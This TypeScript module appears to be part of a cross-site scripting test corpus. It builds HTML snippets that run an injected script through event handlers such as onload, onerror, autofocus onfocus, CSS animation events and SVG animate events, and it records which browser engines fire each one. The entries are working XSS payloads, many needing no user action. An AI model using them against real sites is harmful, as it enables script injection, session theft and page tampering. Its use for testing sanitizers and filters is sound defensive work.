import { asleep, EVERYWHERE, type Engine, type Payload, PIXEL, run, SOUND, table } from './payload.js';

const MOVE = '@keyframes k{from{opacity:0}to{opacity:1}}';

/** Event handler attributes that fire without a person. */
const ALONE = table('on', {
  'load-img': (bait) => `<img src="${PIXEL}" onload="${run(bait)}">`,
  'load-input': (bait) => `<input type="image" src="${PIXEL}" onload="${run(bait)}">`,
  'load-iframe': (bait) => `<iframe onload="${run(bait)}"></iframe>`,
  'load-style': (bait) => `<style onload="${run(bait)}">a{}</style>`,
  'load-link': (bait) => `<link rel="stylesheet" href="data:text/css,a{}" onload="${run(bait)}">`,
  'load-script': (bait) => `<script src="data:text/javascript,1" onload="${run(bait)}"></script>`,
  'load-svg': (bait) => `<svg onload="${run(bait)}"></svg>`,
  'load-svg-image': (bait) => `<svg><image href="${PIXEL}" onload="${run(bait)}"></image></svg>`,
  'load-object': (bait) => `<object data="data:text/html,x" onload="${run(bait)}"></object>`,
  'load-embed': (bait) => `<embed src="data:text/html,x" onload="${run(bait)}">`,
  'load-body': (bait) => `<body onload="${run(bait)}">`,
  'pageshow-body': (bait) => `<body onpageshow="${run(bait)}">`,
  'hashchange-body': (bait) => `<body onhashchange="${run(bait)}"><script>location.hash = 'x'</script>`,
  'error-body': (bait) => `<body onerror="${run(bait)}"><script>throw 1</script>`,
  'message-body': (bait) => `<body onmessage="${run(bait)}"><script>postMessage(1, '*')</script>`,
  'rejection-body': (bait) => `<body onunhandledrejection="${run(bait)}"><script>Promise.reject(1)</script>`,
  'error-img': (bait) => `<img src="data:," onerror="${run(bait)}">`,
  'error-image': (bait) => `<image src="data:," onerror="${run(bait)}">`,
  'error-input': (bait) => `<input type="image" src="data:," onerror="${run(bait)}">`,
  'error-script': (bait) => `<script src="data:x" onerror="${run(bait)}"></script>`,
  'error-link': (bait) => `<link rel="stylesheet" href="data:x" onerror="${run(bait)}">`,
  'error-audio': (bait) => `<audio src="data:," onerror="${run(bait)}"></audio>`,
  'error-video': (bait) => `<video src="data:," onerror="${run(bait)}"></video>`,
  'error-source': (bait) => `<video><source src="data:," onerror="${run(bait)}"></video>`,
  'error-object': (bait) => `<object data="data:x" onerror="${run(bait)}"></object>`,
  'error-svg-image': (bait) => `<svg><image href="data:," onerror="${run(bait)}"></image></svg>`,
  'error-foreign': (bait) => `<svg><foreignObject><img src="data:," onerror="${run(bait)}"></foreignObject></svg>`,
  'loadstart-video': (bait) => `<video src="${SOUND}" onloadstart="${run(bait)}"></video>`,
  'loadedmetadata-audio': (bait) => `<audio src="${SOUND}" onloadedmetadata="${run(bait)}"></audio>`,
  'canplay-audio': (bait) => `<audio src="${SOUND}" preload="auto" oncanplay="${run(bait)}"></audio>`,
  'toggle-details': (bait) => `<details open ontoggle="${run(bait)}">x</details>`,
  animationstart: (bait) => `<style>${MOVE}p{animation:k 1ms}</style><p onanimationstart="${run(bait)}">x</p>`,
  animationend: (bait) => `<style>${MOVE}p{animation:k 1ms}</style><p onanimationend="${run(bait)}">x</p>`,
  animationiteration: (bait) => `<style>${MOVE}p{animation:k 20ms infinite}</style><p onanimationiteration="${run(bait)}">x</p>`,
  webkitanimationend: (bait) => `<style>${MOVE}p{animation:k 1ms}</style><p onwebkitanimationend="${run(bait)}">x</p>`,
  transitionend: (bait) =>
    `<style>p{transition:opacity 1ms;opacity:1}@starting-style{p{opacity:0}}</style><p ontransitionend="${run(bait)}">x</p>`,
  transitionrun: (bait) =>
    `<style>p{transition:opacity 9ms;opacity:1}@starting-style{p{opacity:0}}</style><p ontransitionrun="${run(bait)}">x</p>`,
  'focus-autofocus': (bait) => `<input autofocus onfocus="${run(bait)}">`,
  'focus-autofocus-div': (bait) => `<div tabindex="0" autofocus onfocus="${run(bait)}">x</div>`,
  'focusin-autofocus': (bait) => `<div onfocusin="${run(bait)}"><textarea autofocus></textarea></div>`,
  'focus-select': (bait) => `<select autofocus onfocus="${run(bait)}"><option>x</select>`,
  slotchange: (bait) => `<div><template shadowrootmode="open"><slot onslotchange="${run(bait)}"></slot></template><p>x</p></div>`,
  'visibility-auto': (bait) => `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${run(bait)}">x</p>`,
  'marquee-start': (bait) => `<marquee onstart="${run(bait)}">x</marquee>`,
  'marquee-finish': (bait) => `<marquee loop="1" width="1" scrollamount="9999" onfinish="${run(bait)}">x</marquee>`,
  'marquee-bounce': (bait) => `<marquee behavior="alternate" width="9" scrollamount="9999" onbounce="${run(bait)}">x</marquee>`,
  'svg-begin': (bait) => `<svg><animate onbegin="${run(bait)}" attributeName="x" dur="1s"></animate></svg>`,
  'svg-end': (bait) => `<svg><animate onend="${run(bait)}" attributeName="x" dur="10ms"></animate></svg>`,
  'svg-repeat': (bait) => `<svg><animate onrepeat="${run(bait)}" attributeName="x" dur="10ms" repeatCount="3"></animate></svg>`,
  cuechange: (bait) => `<video src="${SOUND}" onloadeddata="${run(bait)}"><track default src="data:text/vtt,WEBVTT"></video>`,
  scroll: (bait) =>
    `<div onscroll="${run(bait)}" style="overflow:auto;height:9px"><p style="height:99px">x</p><script>document.currentScript.parentElement.scrollTop = 9</script></div>`,
  'resize-body': (bait) => `<body onresize="${run(bait)}"><script>dispatchEvent(new Event('resize'))</script>`,
  violation: (bait) =>
    `<meta http-equiv="Content-Security-Policy" content="style-src 'none'"><p onsecuritypolicyviolation="${run(bait)}"><i style="color:red">x</i></p>`,
});

/** Those that take a person's key or pointer. */
const ACTED = [
  ...table(
    'on',
    {
      'focus-tab': (bait) => `<a href="#" onfocus="${run(bait)}">x</a>`,
      'blur-tab': (bait) => `<a href="#" onblur="${run(bait)}">x</a><a href="#">y</a>`,
    },
    { keys: ['Tab', 'Tab'] },
  ),
  ...table(
    'on',
    {
      keydown: (bait) => `<input autofocus onkeydown="${run(bait)}">`,
      keyup: (bait) => `<input autofocus onkeyup="${run(bait)}">`,
      'keydown-body': (bait) => `<body onkeydown="${run(bait)}">`,
      input: (bait) => `<input autofocus oninput="${run(bait)}">`,
      beforeinput: (bait) => `<textarea autofocus onbeforeinput="${run(bait)}"></textarea>`,
      'input-editable': (bait) => `<div contenteditable tabindex="0" autofocus oninput="${run(bait)}">x</div>`,
    },
    { keys: ['a', 'b'] },
  ),
  ...table(
    'on',
    {
      click: (bait) => `<p id="click" onclick="${run(bait)}">xxxxxx</p>`,
      mousedown: (bait) => `<p id="click" onmousedown="${run(bait)}">xxxxxx</p>`,
      mouseup: (bait) => `<p id="click" onmouseup="${run(bait)}">xxxxxx</p>`,
      mouseover: (bait) => `<p id="click" onmouseover="${run(bait)}">xxxxxx</p>`,
      mousemove: (bait) => `<p id="click" onmousemove="${run(bait)}">xxxxxx</p>`,
      pointerdown: (bait) => `<p id="click" onpointerdown="${run(bait)}">xxxxxx</p>`,
      pointerenter: (bait) => `<p id="click" onpointerenter="${run(bait)}">xxxxxx</p>`,
      'click-popover': (bait) =>
        `<button id="click" popovertarget="p">xxxxxx</button><p id="p" popover onbeforetoggle="${run(bait)}">x</p>`,
      'click-command': (bait) =>
        `<button id="click" commandfor="d" command="show-modal">xxxxxx</button><dialog id="d" ontoggle="${run(bait)}">x</dialog>`,
      'click-label': (bait) => `<label id="click">xxxxxx<input type="checkbox" onchange="${run(bait)}"></label>`,
      'click-summary': (bait) => `<details ontoggle="${run(bait)}"><summary id="click">xxxxxx</summary>x</details>`,
    },
    { click: true },
  ),
];

/** What the engines of today do not fire. */
const DORMANT: Readonly<Record<string, readonly Engine[]>> = {
  'on-rejection-body': ['chromium'],
  'on-transitionrun': ['chromium'],
  'on-marquee-start': EVERYWHERE,
  'on-marquee-finish': EVERYWHERE,
  'on-marquee-bounce': EVERYWHERE,
};

export const HANDLERS: readonly Payload[] = asleep([...ALONE, ...ACTED], DORMANT);
